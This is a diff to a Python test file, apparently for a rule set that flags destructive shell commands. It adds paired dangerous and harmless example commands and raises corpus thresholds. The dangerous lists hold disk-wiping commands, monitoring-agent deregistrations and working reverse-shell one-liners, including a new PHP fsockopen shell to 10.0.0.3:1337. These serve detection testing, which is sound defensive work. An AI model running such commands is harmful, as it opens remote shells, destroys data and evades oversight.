@@ -1,6 +1,7 @@
 """Issue 23's classes the sixteenth session's lanes missed in their own forms (session 17), one (loud, quiet) table
 per mechanism, most loud forms' programs outside the corpora's words; and the corpus written before the rules
-(tests/corpus/effects/rules_s17: 99a8d00 flagged 60.2% of its destructive forms and 6.1% of its everyday ones)."""
+(tests/corpus/effects/rules_s17: 99a8d00 flagged 60.2% of its first batch's destructive forms and 6.1% of its
+everyday ones; a second batch written after the first rules landed: 99a8d00 58.3%, 2f8702f 88.9%, after 93.1%)."""
 from __future__ import annotations
 
 from pathlib import Path
@@ -15,10 +16,12 @@ DEVICE_PATHS = (
      "zpool create tank /dev/gpt/disk0", "diskprep --format /dev/gpt/data0", "imgburn write x.img /dev/rsd2c",
      "zerofill --wipe /dev/emcpowerb", "mkfs.xfs /dev/vx/dsk/datadg/vol01", "newfs /dev/md/rdsk/d10",
      "dd if=/dev/zero of=/dev/ld0d", "geli init -s 4096 /dev/diskid/DISK-1", "cardflash write os.img /dev/rwd1c",
-     "blkzap --erase /dev/cciss/c0d0", "mkfs.ext4 /dev/zvol/tank/vol1"],
+     "blkzap --erase /dev/cciss/c0d0", "mkfs.ext4 /dev/zvol/tank/vol1", "badblocks -wsv /dev/ada2",
+     "ventoy -i /dev/da1", "zerofill --wipe /dev/nvd1", "cardflash write os.img /dev/mmcsd0"],
     ["pvdisplay /dev/rdsk/c0t0d0s2", "geli attach /dev/gpt/data0", "gpart add -t freebsd-ufs -s 20G ada0",
      "gpart create -s gpt ada0", "gpart show", "mount /dev/gpt/data0 /mnt", "dd if=/dev/rsd1c of=disk.img",
-     "smartctl -a /dev/ada0", "diskinfo -v /dev/nvd0", "imgburn read /dev/rsd2c x.img", "pvs"])
+     "smartctl -a /dev/ada0", "diskinfo -v /dev/nvd0", "imgburn read /dev/rsd2c x.img", "pvs",
+     "badblocks -sv /dev/ada2", "dd if=/dev/ada2 of=x.img"])
 # Volume managers' and arrays' verbs fused in a name, an unbind or an unconfigure (rules/disk_words.py).
 ARRAY_VERBS = (
     ["metaclear d10", "metadetach -f d10 d12", "naviseccli -h spa lun -unbind 12",
@@ -49,11 +52,12 @@ HOST_UNREGISTERED = (
     ["insights-client --unregister", "subscription-manager unregister", "SUSEConnect --de-register",
      "ua detach --assume-yes", "azcmagent disconnect", "patchmgr-agent unregister", "fleetd-sensor --deregister",
      "inventoryctl unregister", "telemetry-connector disconnect", "nessuscli agent unlink --force",
-     "landscape-config --disable"],
+     "landscape-config --disable", "rhn-unregister --force", "zorg-unregister", "fleet-deregister.sh"],
     ["gpclient disconnect", "warp-cli disconnect", "bluetoothctl disconnect", "runnerctl unregister",
      "insights-client --register", "insights-client --disable-schedule", "git maintenance unregister",
      "cloudctl provider unregister --namespace Compute.Batch", "docker network disconnect net1 web",
-     "expressvpn disconnect", "subscription-manager status", "patchmgr-agent unregister --help"])
+     "expressvpn disconnect", "subscription-manager status", "patchmgr-agent unregister --help",
+     "rhn-register --force"])
 # A whole cluster stopped by name (rules/cluster_stops.py).
 CLUSTER_STOPS = (
     ["tiup cluster stop prod", "rosa hibernate cluster --cluster prod", "ccadm cluster stop prod-east",
@@ -77,7 +81,8 @@ SOCKET_SHELLS = (
      "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
      "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
      "sbd -e /bin/sh 10.0.0.1 4444", "cryptcat -e /bin/sh 10.0.0.1 4444",
-     "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s"],
+     "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
+     "php -r '$s=fsockopen(\"10.0.0.3\",1337);shell_exec(\"sh <&3 >&3 2>&3\");'"],
     ["exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
      "exec 3< input.txt; read -r line <&3; exec 3<&-", "openssl s_client -connect example.com:443 </dev/null",
      "ruby -e 'puts sprintf(\"%d\", 3)'", "exec 3<>/dev/tcp/example.com/80; echo hi >&3; read -r reply <&3"])
@@ -127,4 +132,4 @@ def test_older_false_alarms():
 def test_rules_s17_corpus():
     corpus_floor(CORPUS / "destructive.txt", 0.9, 120)  # 99a8d00: 60.2%
     loud, quiet = loud_and_quiet(CORPUS / "everyday.txt")
-    assert len(quiet) >= 175 and len(loud) <= 2, "\n".join(loud)  # 99a8d00: 11 of 179 loud
+    assert len(quiet) >= 240 and len(loud) <= 2, "\n".join(loud)  # 99a8d00: 10 of 245 loud
